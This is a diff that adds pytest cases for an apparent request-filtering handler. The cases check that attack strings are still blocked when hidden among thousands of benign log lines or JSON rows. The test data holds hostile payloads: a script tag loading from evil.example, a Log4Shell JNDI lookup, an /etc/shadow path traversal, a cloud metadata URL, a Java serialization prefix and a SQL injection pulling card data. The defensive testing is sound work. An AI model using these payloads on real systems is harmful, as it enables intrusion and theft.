@@ -171,6 +171,46 @@ def test_many_attacks_are_no_cover_for_each_other(attack, capsys):
     assert handler(as_records([f"{attack}{number}" for number in range(20_000)]), None)["statusCode"] == 403
 
 
+LOG = "".join(
+    f"2024-05-12T10:{at % 60:02}:00.{at % 1000:03}Z INFO [worker-{at % 8}] com.acme.Orders - "
+    f'order id={at}; user=<{at % 77}> status={{"ok": true}} (took {at}ms)\n'
+    for at in range(8_000)
+)
+
+
+@pytest.mark.parametrize("at", [300_000, 500_000, 777_000])
+@pytest.mark.parametrize("attack", ["<script src=//evil.example/x.js></script>", "${jndi:ldap://203.0.113.66/a}"])
+def test_a_line_of_a_log_that_is_full_of_marks(attack, at, capsys):
+    at = LOG.index("\n", at)
+    assert handler(posted("text/plain", LOG), None)["statusCode"] == 200
+    assert handler(posted("text/plain", f"{LOG[:at]}\n{attack}{LOG[at:]}"), None)["statusCode"] == 403
+
+
+@pytest.mark.parametrize(
+    "attack",
+    [
+        "../../../../etc/shadow",
+        "http://169.254.169.254/latest/meta-data/",
+        "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg",
+    ],
+)
+@pytest.mark.parametrize("last", [True, False], ids=["last", "between"])
+def test_a_field_like_many(attack, last, capsys):
+    """Addresses and paths have the marks of an attack that is one: thousands of them are no cover."""
+    rows = [
+        {
+            "id": at,
+            "avatar": f"https://cdn.example.com/u/{at}.png",
+            "path": f"/images/{at}/a.png",
+            "bio": f"it's {at} > 3 (fine) & so",
+        }
+        for at in range(6_000)
+    ]
+    body = json.dumps([*rows, {"path": attack}] if last else [*rows[:3_000], {"path": attack}, *rows[3_000:]])
+    assert handler(posted("application/json", json.dumps(rows)), None)["statusCode"] == 200
+    assert handler(posted("application/json", body), None)["statusCode"] == 403
+
+
 @pytest.mark.parametrize("attack", ["1' UNION SELECT card FROM payments-- -", "<script src=//evil.example/x.js></script>"])
 @pytest.mark.parametrize("flood", ["a\u0301", "\u200b", "{{ ", "f(("])
 def test_a_flood_of_marks_is_no_cover_for_an_attack(attack, flood, capsys):
